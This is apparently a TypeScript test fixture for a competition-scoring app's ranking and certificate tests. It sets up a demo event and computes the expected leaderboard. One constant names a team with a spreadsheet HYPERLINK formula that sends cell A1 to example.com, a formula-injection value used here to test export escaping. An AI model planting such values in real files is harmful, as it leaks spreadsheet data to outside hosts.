// Shared by the tests of the ranking files and the certificates (tests
// only): the concluded demo event made to show every case, and the ranking
// @gas/scoring computes for it on its own.
import { computeLeaderboard, type LeaderboardEntry } from '@gas/scoring';
import { and, asc, eq, inArray, notInArray } from 'drizzle-orm';
import type { Db } from '../../db/client';
import {
  evento,
  eventoAmministratore,
  polo,
  poloResponsabile,
  responsabileSquadra,
  squadra,
} from '../../db/schema';
import { loadSessionData } from '../../scores/queries';
import { loadFixtures, userOf } from '../squadra/testing';

/** A team name that a spreadsheet would run as a formula. */
export const NOME_FORMULA = '=HYPERLINK("http://example.com/?x="&A1;"Premi qui")';

/**
 * On the concluded official event (`passato`), whose first session has
 * answers, jokers and a penalised team: a guest team, a team named as a
 * formula, a venue of half the teams managed by `inseritore` (no other role
 * there), `amministratore` among the event's administrators, one team
 * assigned to `secondario` (its own manager), none of them of principale's
 * schools.
 */
export async function preparaClassifiche(db: Db) {
  const f = await loadFixtures(db);
  const sessioneId = f.passato.sessioni[0]!;
  const squadre = await db
    .select()
    .from(squadra)
    .where(eq(squadra.sessioneId, sessioneId))
    .orderBy(asc(squadra.id));
  const estranee = squadre.filter(
    (s) => s.scuolaId === null || !f.scuolePrincipale.includes(s.scuolaId),
  );
  const ospite = estranee[1]!;
  const formula = estranee[2]!;
  const mia = estranee[0]!;
  await db.update(squadra).set({ ospite: true }).where(eq(squadra.id, ospite.id));
  await db.update(squadra).set({ nome: NOME_FORMULA }).where(eq(squadra.id, formula.id));
  const [venue] = await db
    .insert(polo)
    .values({ eventoId: f.passato.id, nomeBreve: 'Polo di Prova' })
    .returning();
  const delPolo = estranee.filter((_, i) => i % 2 === 0).map((s) => s.id);
  await db.update(squadra).set({ poloId: venue!.id }).where(inArray(squadra.id, delPolo));
  const inseritore = await userOf(db, 'inseritore');
  const amministratore = await userOf(db, 'amministratore');
  await db.insert(poloResponsabile).values({ poloId: venue!.id, userId: inseritore.userId });
  await db
    .insert(eventoAmministratore)
    .values({ eventoId: f.passato.id, responsabileId: amministratore.responsabileId! });
  await db
    .insert(responsabileSquadra)
    .values({ responsabileId: f.secondario.responsabileId!, squadraId: mia.id });
  // A team outside the venue that is not secondario's.
  const [fuori] = await db
    .select()
    .from(squadra)
    .where(and(eq(squadra.sessioneId, sessioneId), notInArray(squadra.id, [...delPolo, mia.id])))
    .orderBy(asc(squadra.id));
  const [e] = await db.select().from(evento).where(eq(evento.id, f.passato.id));
  return {
    f,
    evento: e!,
    sessioneId,
    polo: venue!,
    delPolo,
    mia: mia.id,
    fuori: fuori!.id,
    ospite: ospite.id,
    formula: formula.id,
  };
}
export type Preparate = Awaited<ReturnType<typeof preparaClassifiche>>;

/** The session's ranking straight from @gas/scoring, from the stored answers. */
export async function classificaAttesa(
  db: Db,
  sessioneId: number,
): Promise<{ classifica: LeaderboardEntry[]; problemi: string[] }> {
  const data = (await loadSessionData(db, sessioneId))!;
  const board = computeLeaderboard({
    params: data.evento.params,
    inizio: data.evento.inizio.toISOString(),
    problemi: data.problemi,
    squadre: data.squadre.map((s) => ({
      id: s.id,
      nome: s.nome,
      ospite: s.ospite,
      ordine_eta: s.ordineEta,
      penalita: s.penalita,
    })),
    eventi: data.eventi,
    at: new Date().toISOString(),
  });
  return { classifica: board.classifica, problemi: data.problemi.map((p) => p.nome) };
}
